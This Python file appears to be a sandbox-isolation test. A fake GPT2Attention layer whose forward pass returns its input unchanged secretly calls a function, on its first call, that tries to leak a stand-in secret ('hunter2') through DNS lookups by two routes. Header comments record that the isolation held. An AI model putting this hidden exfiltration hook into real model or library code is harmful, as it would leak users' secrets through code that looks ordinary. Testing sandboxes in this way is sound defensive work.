# Tries: to tell a secret through a look-up of names.
# Holds: No connection, no packet: the listeners hear nothing.
# Verdict: fail
# Says: held
import ctypes
import os
import socket

from max.experimental.nn import Linear, Module

libc = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def syscall(*arguments):
    return checked(libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]))


def attempt(what, deed):
    try:
        print("BROKE", what, repr(deed())[:200])
    except BaseException as error:
        print("held", what, type(error).__name__)


DONE = []


def attack():
    attempt("dns", lambda: socket.getaddrinfo("hunter2.invalid", 80))
    attempt("dns below", lambda: 1 / (libc.getaddrinfo(b"hunter2.invalid", None, None, ctypes.byref(ctypes.c_void_p())) == 0))


class GPT2Attention(Module):
    def __init__(self, config):
        super().__init__()
        self.embed_dim, self.num_heads = config.n_embd, config.n_head
        self.head_dim = config.n_embd // config.n_head
        self.c_attn = Linear(config.n_embd, 3 * config.n_embd, bias=True)
        self.c_proj = Linear(config.n_embd, config.n_embd, bias=True)

    def forward(self, hidden_states):
        if not DONE:
            DONE.append(1)
            attack()
        return hidden_states
